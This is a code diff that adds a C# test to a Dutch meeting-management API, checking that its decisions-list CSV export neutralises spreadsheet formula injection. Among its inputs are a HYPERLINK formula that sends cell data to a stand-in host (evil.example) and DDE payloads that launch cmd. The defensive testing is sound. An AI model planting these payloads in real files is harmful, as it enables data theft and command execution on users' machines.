@@ -231,4 +231,50 @@ public sealed class MeetingTests : IAsyncLifetime
         Assert.Contains("sbsdBesluitOpgelost", lines[1], StringComparison.Ordinal);
         Assert.Contains("SZW: Handreiking publiceren (uiterlijk " + D(date.AddDays(28)) + ")", lines[1], StringComparison.Ordinal);
     }
+
+    /// <summary>
+    /// Text a user typed reaches the besluitenlijst; a secretary opens it in a spreadsheet. A cell that starts a
+    /// formula (OWASP CSV Injection: =, +, -, @, tab, carriage return) must arrive as text, with a leading apostrophe.
+    /// </summary>
+    [Fact]
+    public async Task BesluitenlijstCsv_CellsThatWouldStartAFormula_AreNeutralised()
+    {
+        const string hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Klik\")";
+        const string dde = "+cmd|' /C calc'!A0";
+        const string at = "@SUM(1+1)*cmd|' /C calc'!A0";
+        var first = await KnelpuntWithProposal(_host, titel: hyperlink);
+        var second = await KnelpuntWithProposal(_host, titel: dde);
+        var date = _host.Today.AddDays(10);
+        var meeting = await PlanMeeting(_host, Sbsd, "SBSD", date);
+        var item = await AddToAgenda(_host, Sbsd, meeting.Id(), first);
+        await AddToAgenda(_host, Sbsd, meeting.Id(), second);
+        _host.AdvanceTo(date);
+        await Expect(HttpStatusCode.OK, await (await _host.As(Sbsd)).Post($"/api/v1/meetings/{meeting.Id()}/agenda-items/{item.Id()}/decision", new
+        {
+            action = "sbsdBesluitOpgelost",
+            besluit = at,
+            data = new { uitkomst = "opgelost-binnen-bestaande-ruimte" },
+            actionItems = new[] { new { description = "Handreiking publiceren", owner = "-2+3", dueDate = D(date.AddDays(28)) } },
+        }));
+
+        using var response = await (await _host.As(Sbsd)).GetAsync($"/api/v1/meetings/{meeting.Id()}/besluitenlijst.csv");
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        var text = await response.Content.ReadAsStringAsync();
+
+        // Escaped and quoted, so a quote inside the title cannot end the cell and start a formula in the next one.
+        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Klik\"\")\"", text, StringComparison.Ordinal);
+        using var reader = new CsvHelper.CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
+        var rows = new List<string[]>();
+        while (await reader.ReadAsync())
+        {
+            rows.Add(reader.Parser.Record!);
+        }
+
+        Assert.Equal(3, rows.Count);
+        var byTitle = rows.Skip(1).ToDictionary(r => r[2]);
+        Assert.Equal(new[] { "'" + hyperlink, "'" + dde }.Order(StringComparer.Ordinal), byTitle.Keys.Order(StringComparer.Ordinal));
+        Assert.Equal("'" + at, byTitle["'" + hyperlink][4]);
+        Assert.StartsWith("'-2+3: Handreiking publiceren", byTitle["'" + hyperlink][8], StringComparison.Ordinal);
+        Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), $"cell starts a formula: {cell}"));
+    }
 }
